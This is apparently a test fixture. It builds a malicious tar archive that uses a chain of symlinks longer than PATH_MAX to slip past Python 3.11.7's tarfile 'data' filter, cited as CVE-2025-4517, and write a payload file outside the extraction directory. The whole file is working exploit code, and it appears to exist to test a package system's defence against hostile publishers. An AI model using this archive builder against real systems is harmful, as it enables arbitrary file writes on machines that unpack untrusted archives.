"""Archives an attacker with a publisher account would publish as sealed directory models."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


def symlink_chain_escape(outside: Path, payload: bytes = b"pwned", component_len: int = 234) -> bytes:
    """A tar that Python 3.11.7's ``filter="data"`` extracts into ``outside``/pwned (CVE-2025-4517).

    A chain of symlinks whose expansion exceeds PATH_MAX: ``os.path.realpath`` gives up on it and
    goes on lexically, so the filter sees a path inside the destination while the kernel follows
    the links out of it. The component length suits destinations of 150 to 280 characters, the
    length of a node's unpacking directory under the tests' cache roots.
    """
    buf = io.BytesIO()
    steps = "abcdefghijklmnop"
    component = "d" * component_len

    def add(archive: tarfile.TarFile, name: str, kind: bytes, linkname: str = "", data: bytes = b"") -> None:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.mode, info.size = kind, linkname, 0o777, len(data)
        archive.addfile(info, io.BytesIO(data) if data else None)

    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as archive:
        path = ""
        for step in steps:
            add(archive, os.path.join(path, component), tarfile.DIRTYPE)
            add(archive, os.path.join(path, step), tarfile.SYMTYPE, linkname=component)
            path = os.path.join(path, component)
        linkpath = os.path.join(*steps, "l" * 254)
        add(archive, linkpath, tarfile.SYMTYPE, linkname=os.path.join(*[".."] * len(steps)))
        add(archive, "escape", tarfile.SYMTYPE, linkname=linkpath + "/.." * len(steps))
        add(archive, f"escape{outside}/pwned", tarfile.REGTYPE, data=payload)
    return buf.getvalue()
